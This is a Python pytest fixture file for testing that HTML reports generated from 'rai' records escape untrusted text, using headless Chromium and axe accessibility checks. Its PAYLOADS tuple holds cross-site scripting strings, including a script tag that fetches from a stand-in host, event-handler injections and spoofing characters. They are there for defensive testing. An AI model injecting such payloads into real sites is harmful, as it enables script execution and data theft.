from collections.abc import Callable, Iterator
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from rai.evidence import Bars, Curve, Heat, Line, Measurement, Overlay, Scatter, Table, Text, Tokens
from rai.record import File, GroupCount, Record, Run, Section

CHROMIUM = Path("/usr/bin/chromium")
ARGUMENTS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]


Place = Callable[[Record, str], Record]


def in_identity(field: str) -> Place:
    return lambda record, text: replace(record, identity=replace(record.identity, **{field: text}))


def in_rule(field: str) -> Place:
    def put(record: Record, text: str) -> Record:
        rules = [replace(each.rule, **{field: text}) for each in record.findings]
        pairs = zip(record.findings, rules, strict=True)
        return replace(record, findings=tuple(replace(each, rule=rule) for each, rule in pairs))

    return put


def in_section(field: str) -> Place:
    return lambda record, text: replace(
        record, sections=tuple(replace(each, **{field: text}) for each in record.sections)
    )


def in_evidence(record: Record, **change: object) -> Record:
    def put(part: Section) -> Section:
        return part if part.evidence is None else replace(part, evidence=replace(part.evidence, **change))

    return replace(record, sections=tuple(map(put, record.sections)))


def in_exhibits(record: Record, text: str) -> Record:
    edges = (0.0, 1.0, 2.0)
    lines = Line(text, (0.0, 1.0), (0.0, 1.0)), Line("b", (0.0, 1.0), (1.0, 1.0))
    exhibits = (
        Bars(text, text, (text, "b"), (0.1, 0.2), (0.0, 0.1), (0.3, 0.3), unit=text),
        Curve(text, text, text, text, lines),
        Scatter(text, text, text, text, edges, edges, ((5, 9), (0, 20))),
        Heat(text, text, (text, "b"), ("a", text), ((1.0, None), (-2.0, 3.0)), text, text, text),
        Table(text, text, (text, text), ((text, 1), (None, text))),
        Text(text, text),
        Overlay(text, text, ((0, 255), (9, 9)), ((1.0, -1.0), (0.0, 0.5)), text),
        Tokens(text, text, (text, "b"), (1.0, -1.0), text),
    )
    return in_evidence(record, exhibits=exhibits)


def in_measurements(record: Record, text: str) -> Record:
    facet = {"attribute": text, text: text}
    made = Measurement(text, 0.5, None, None, 50, facet, unit=text, method=text, reason=text)
    return in_evidence(record, measurements=(made,), method=text, caveats=(text,))


def in_findings(record: Record, text: str) -> Record:
    made = [each.measurement and replace(each.measurement, facet={"attribute": text}) for each in record.findings]
    pairs = zip(record.findings, made, strict=True)
    return replace(record, findings=tuple(replace(each, measurement=m, reason=text) for each, m in pairs))


def in_policy(record: Record, text: str) -> Record:
    policy = replace(record.policy, name=text, version=text, source=text, text=f"{text}\n{text}")
    return replace(record, policy=policy)


def in_run(record: Record, text: str) -> Record:
    return replace(record, run=Run(text, text, {text: text}), digest=text, not_covered=(text,))


def in_files(record: Record, text: str) -> Record:
    file = File(text, text, 9)
    groups = (GroupCount(text, text, 9), *(GroupCount("many", f"{text}{i}", 9) for i in range(9)))
    identity = replace(record.identity, model=file, data=file, reference=file, groups=groups, notes=(text,))
    return replace(record, identity=identity)


PLACES: dict[str, Place] = {
    **{f"identity.{field}": in_identity(field) for field in ("name", "version", "head_reason", "owner")},
    **{f"rule.{field}": in_rule(field) for field in ("id", "title", "source", "because")},
    **{f"section.{field}": in_section(field) for field in ("name", "question", "problem")},
    "exhibits": in_exhibits,
    "measurements": in_measurements,
    "findings": in_findings,
    "policy": in_policy,
    "run": in_run,
    "files": in_files,
}
PAYLOADS = (
    "<script>window.ran=(window.ran||0)+1;fetch('http://evil.invalid/a')</script>",
    '"><img src=x onerror="window.ran=(window.ran||0)+1">',
    "'></title></style></script></textarea><svg/onload=window.ran=(window.ran||0)+1>",
    "javascript:window.ran=1//{{7*7}}{% raw %}\u202egnp.exe\x1b]0;x\x07\x00",
)


class Page(HTMLParser):
    """A page as a list of elements, with what was left open."""

    VOID = frozenset({"meta", "input", "br", "img", "link", "hr"})

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[tuple[str, dict[str, str | None], str]] = []
        self.open: list[tuple[str, dict[str, str | None]]] = []
        self.wrong: list[str] = []
        self.feed(text)
        self.close()
        self.wrong += [f"<{tag}> left open" for tag, _ in self.open]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in self.VOID:
            self.open.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop()[0] != tag:
            self.wrong.append(f"</{tag}> closes nothing")

    def handle_data(self, data: str) -> None:
        if self.open:
            self.texts.append((*self.open[-1], data))

    def all(self, name: str) -> list[str]:
        """Every value of an attribute."""
        return [attributes[name] or "" for _, attributes in self.elements if name in attributes]


@pytest.fixture(scope="session")
def parse() -> type[Page]:
    """Read a page with the standard library's parser."""
    return Page


@pytest.fixture(scope="session")
def places() -> dict[str, Place]:
    """Everywhere a stranger's text enters a record."""
    return PLACES


@pytest.fixture(scope="session")
def payloads() -> tuple[str, ...]:
    """Texts that would run, load or mislead if a page obeyed them."""
    return PAYLOADS


@pytest.fixture(scope="session")
def chromium() -> Iterator[Any]:
    """One headless browser for all tests."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=ARGUMENTS)
        yield browser
        browser.close()


class Seen:
    """What a page did: console errors, requests other than for its own file, and the page itself."""

    def __init__(self, page: Any, path: Path) -> None:
        self.page, self.errors, self.requests = page, [], []
        own = path.as_uri()
        page.on("console", lambda message: self.errors.append(message.text) if message.type == "error" else None)
        page.on("pageerror", lambda error: self.errors.append(str(error)))
        page.on("request", lambda request: self.requests.append(request.url) if request.url != own else None)
        page.goto(own)


Open = Callable[..., Seen]


@pytest.fixture
def show(chromium: Any, tmp_path: Path) -> Iterator[Open]:
    """Open text as a page from disk: the sample record's report unless another is given."""
    contexts = []

    def opened(text: str, **options: Any) -> Seen:
        path = tmp_path / f"report{len(contexts)}.html"
        path.write_text(text, encoding="utf-8")
        context = chromium.new_context(**{"viewport": {"width": 1280, "height": 900}, **options})
        contexts.append(context)
        return Seen(context.new_page(), path)

    yield opened
    for context in contexts:
        context.close()


A_AND_AA = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]


def found_by_axe(page: Any) -> list[str]:
    """What axe finds wrong; it is read from its package, because the page's own policy bars other scripts."""
    from importlib.resources import files

    page.evaluate(files("axe_playwright_python").joinpath("axe.min.js").read_text(encoding="utf-8"))
    options = {"runOnly": {"type": "tag", "values": A_AND_AA}, "resultTypes": ["violations"]}
    found = page.evaluate("options => axe.run(document, options)", options)["violations"]
    return [f"{each['id']}: {node['html'][:200]} {node['failureSummary']}" for each in found for node in each["nodes"]]


@pytest.fixture(scope="session")
def violations() -> Callable[[Any], list[str]]:
    return found_by_axe
